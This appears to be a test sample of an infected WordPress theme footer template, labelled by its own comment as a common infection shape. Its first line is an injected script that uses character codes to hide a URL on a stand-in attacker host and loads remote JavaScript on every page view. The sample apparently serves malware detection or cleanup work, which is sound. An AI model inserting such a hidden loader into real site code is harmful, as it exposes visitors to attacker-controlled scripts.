<script type="text/javascript">var _q=document.createElement('script');_q.src=String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47,115,46,106,115);document.head.appendChild(_q);</script><?php
/**
 * The template for displaying the footer
 *
 * Test sample: an ordinary theme file whose first line was prefixed with an
 * injected script tag (outside the PHP block), a very common infection shape.
 *
 * @package Twenty_Example
 */
?>
	</div><!-- #content -->
	<footer id="colophon" class="site-footer">
		<div class="site-info">
			<?php printf(esc_html__('Proudly powered by %s', 'twentyexample'), 'WordPress'); ?>
		</div>
	</footer>
</div><!-- #page -->
<?php wp_footer(); ?>
</body>
</html>
